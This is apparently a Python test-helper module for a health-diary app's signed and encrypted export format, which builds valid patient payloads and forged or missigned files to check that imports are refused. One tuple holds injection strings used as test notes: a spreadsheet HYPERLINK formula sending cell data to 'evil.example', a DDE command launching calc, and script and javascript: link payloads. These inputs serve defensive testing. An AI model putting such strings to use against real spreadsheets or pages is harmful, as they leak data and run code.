"""Builders for exchange tests: valid payloads, and files assembled by hand for hostile cases.

Hostile files are built here with PyNaCl directly (never through seal_export), so a test can sign
any bytes, under any key and context string, and seal them to any key; `as_nacl` turns the app's own
key values (diary.exchange.keys) into PyNaCl's for that.
"""

from __future__ import annotations

import base64
import json
import time
import uuid
from dataclasses import dataclass
from datetime import date, datetime, timedelta, timezone
from typing import Any

import nacl.public
import nacl.signing
import pytest

from diary.exchange import BoxPublicKey, BoxSecretKey, ImportRefused, SigningKey, canonical_json, fingerprint, open_export
from diary.exchange.envelope import MAGIC, SEALED_LINE, SIGNATURE_CONTEXT

TZ = timezone(timedelta(hours=1))
NOW = datetime(2026, 3, 15, 19, 30, tzinfo=TZ)
FORMULA_NOTES = (
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "-2+3",
    "<img src=x onerror=alert(1)>",
    "[tap](javascript:alert(1))",
)


def as_nacl(key):
    """PyNaCl's object for one of the app's keys, so tests build files independently of the app's code."""
    kinds = {BoxSecretKey: nacl.public.PrivateKey, BoxPublicKey: nacl.public.PublicKey,
             SigningKey: nacl.signing.SigningKey}
    return kinds[type(key)](bytes(key)) if type(key) in kinds else key


@dataclass(frozen=True)
class Keys:
    """Everyone in the story: the physio, a research team, the patient, another physio, a stranger."""

    physio: BoxSecretKey
    research: BoxSecretKey
    other_physio: BoxSecretKey
    patient: SigningKey
    stranger: SigningKey

    @property
    def pinned(self) -> dict[str, bytes]:
        return {fingerprint(self.patient.verify_key): bytes(self.patient.verify_key)}


def checkin(day: date, **fields: Any) -> dict[str, Any]:
    """A valid check-in as JSON values (unanswered items left out)."""
    values = {
        "id": uuid.uuid4().hex,
        "day": day.isoformat(),
        "recorded_at": datetime.combine(day, datetime.min.time().replace(hour=20), tzinfo=TZ).isoformat(),
        "pain": 5,
        "fatigue": 4,
        "regions": {"neck": 6, "lower_back": None},
        "sleep_hours": 7.5,
        "light_min": 30,
        "strength": True,
    }
    values.update(fields)
    return values


def payload_dict(keys: Keys, *, seq: int = 1, recipients: list | None = None, n_checkins: int = 3) -> dict:
    """A valid ExportPayloadV1 as JSON values, addressed to the physio and the research team."""
    first = NOW.date() - timedelta(days=n_checkins)
    return {
        "schema_version": 1,
        "export_id": str(uuid.uuid4()),
        "seq": seq,
        "created_at": NOW.isoformat(),
        "recipients": recipients if recipients is not None else [fingerprint(keys.physio), fingerprint(keys.research)],
        "patient_label": "Anna L.",
        "period_start": first.isoformat(),
        "period_end": NOW.date().isoformat(),
        "checkins": [checkin(first + timedelta(days=i), note=f"day {i}") for i in range(n_checkins)],
        "questionnaires": [{
            "instrument_id": "phq15", "version": "1", "answered_at": NOW.isoformat(),
            "answers": [0, 1, 2, 1, 0, None, 2, 1, 0, 0, 1, 2, 1, 0, 1], "total": 12.0, "band": "medium",
            "flags": ["one_item_missing"],
        }],
        "goals": [
            {"id": "g1", "title": "Walk to the shop", "type": "main", "baseline_level": -1,
             "levels": [{"level": 0, "description": "walks 20 minutes three times a week"}],
             "ratings": [{"rated_on": "2026-03-01", "rater": "physiotherapist", "level": -1, "category": "partially"}]},
            {"id": "g2", "title": "Walk 10 minutes", "type": "intermediate", "main_goal_id": "g1", "weight": 2.0,
             "ratings": [{"rated_on": "2026-03-10", "rater": "patient", "category": "fully"}]},
        ],
        "plan": {"agreed_on": "2026-02-20", "activities": [
            {"id": "a1", "name": "walk", "intensity": "moderate", "minutes": 30, "times_per_week": 3},
        ]},
    }


def envelope_dict(payload: bytes, key: SigningKey, *, context: bytes = SIGNATURE_CONTEXT,
                  signer: bytes | None = None) -> dict[str, Any]:
    """The signed envelope as a dict, signed by `key` under `context`, claiming `signer` (default: key's)."""
    b64 = lambda raw: base64.b64encode(raw).decode("ascii")  # noqa: E731
    return {
        "format": "diary-export", "v": 1,
        "signer": b64(signer if signer is not None else bytes(key.verify_key)),
        "payload": b64(payload),
        "sig": b64(as_nacl(key).sign(context + payload).signature),
    }


def sealed(signed: bytes, to: BoxPublicKey) -> bytes:
    """A sealed export file around any signed bytes."""
    return MAGIC + SEALED_LINE + nacl.public.SealedBox(as_nacl(to)).encrypt(signed)


def file_for(keys: Keys, payload: dict | bytes, *, signer_key: SigningKey | None = None,
             to: BoxPublicKey | None = None, **envelope: Any) -> bytes:
    """Sign (payload dict → canonical bytes) and seal to the physio unless told otherwise."""
    raw = payload if isinstance(payload, bytes) else canonical_json(payload)
    signed = canonical_json(envelope_dict(raw, signer_key or keys.patient, **envelope))
    return sealed(signed, to or keys.physio.public_key)


def open_as_physio(keys: Keys, data: bytes, **kwargs: Any):
    kwargs.setdefault("recipient_private_key", keys.physio)
    return open_export(data, now=NOW, pinned_signers=keys.pinned, **kwargs)


def assert_refused(keys: Keys, data: bytes, category: str, *, limit: float = 1.0, **kwargs: Any) -> ImportRefused:
    """Open as the physio; assert the exact category, a plain sentence, and a fast refusal."""
    start = time.process_time()  # CPU time: what a hostile file could blow up; other jobs on the machine do not stretch it
    with pytest.raises(ImportRefused) as caught:
        open_as_physio(keys, data, **kwargs)
    elapsed = time.process_time() - start
    assert caught.value.category == category, caught.value
    assert str(caught.value) == caught.value.message and caught.value.message.endswith(".")
    assert elapsed < limit, f"refusal took {elapsed:.3f}s"
    return caught.value


def dumps_loose(obj: Any) -> bytes:
    """Valid JSON that is not canonical (spaces after separators)."""
    return json.dumps(obj, sort_keys=True, ensure_ascii=False).encode("utf-8")
